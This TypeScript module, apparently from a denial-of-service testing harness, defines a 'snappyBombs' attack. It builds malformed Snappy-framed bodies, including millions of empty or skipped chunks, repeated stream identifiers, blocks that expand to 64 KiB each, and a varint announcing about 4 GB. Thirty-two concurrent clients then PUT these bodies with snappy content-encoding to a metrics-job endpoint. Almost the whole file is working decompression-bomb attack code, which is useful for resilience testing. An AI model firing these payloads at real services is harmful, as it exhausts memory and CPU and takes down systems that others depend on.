import type { Attack } from '../../attack.ts';
import { repeated, varint } from '../../client/wire.ts';
import { swarm } from '../../client/swarm.ts';

/** https://github.com/google/snappy/blob/main/framing_format.txt */
const IDENTIFIER = Buffer.from('\u{ff}\u{6}\0\0sNaPpY', 'latin1');

function chunk(type: number, content: Uint8Array): Buffer {
  const head = Buffer.alloc(4);
  head[0] = type;
  head.writeUIntLE(content.length, 1, 3);
  return Buffer.concat([head, content]);
}

const framed = (...chunks: Uint8Array[]): Buffer => Buffer.concat([IDENTIFIER, ...chunks]);

/** 64 KiB of one byte: a literal, and copies of 64 bytes with an offset of 1. The checksum is wrong. */
function expanding(length: number): Buffer {
  const copies = repeated(Buffer.from([0xfe, 1, 0]), 3 * Math.floor((length - 1) / 64));
  return chunk(0, Buffer.concat([Buffer.alloc(4), varint(length), Buffer.from([0, 0x0a]), copies]));
}

function bombs(): Buffer[] {
  return [
    framed(repeated(chunk(0xfe, Buffer.alloc(0)), 16_000_000)),
    framed(repeated(IDENTIFIER, 16_000_000)),
    framed(repeated(chunk(0x80, Buffer.alloc(1)), 14_000_000)),
    // Uncompressed and compressed chunks of nothing; the checksum of nothing is a8 83 28 22 when masked.
    framed(repeated(chunk(1, Buffer.from('d8ea82a2', 'hex')), 15_000_000)),
    framed(repeated(chunk(0, Buffer.from('d8ea82a200', 'hex')), 15_000_000)),
    framed(...Array.from({ length: 250 }, () => expanding(65_536))),
    // The length that the block announces is not there.
    framed(chunk(0, Buffer.concat([Buffer.alloc(4), varint(65_536), Buffer.from([0])]))),
    Buffer.concat([varint(4_000_000_000), Buffer.alloc(1_000)]),
  ];
}

let bodies: Buffer[] = [];

export const snappyBombs: Attack = {
  what: 'snappy bodies of empty, skipped and repeated chunks, and blocks that announce gigabytes',
  against: 'plain',
  clients: 32,
  prepare: () => {
    bodies = bombs();
  },
  start: async (target, signal) =>
    swarm(target, signal, async (client) => {
      const body = bodies[client.index % bodies.length] ?? '';
      const headers = { 'content-encoding': 'snappy' };
      await client.call({ method: 'PUT', path: `/metrics/job/snappy-${client.index}`, headers, body });
    }),
};
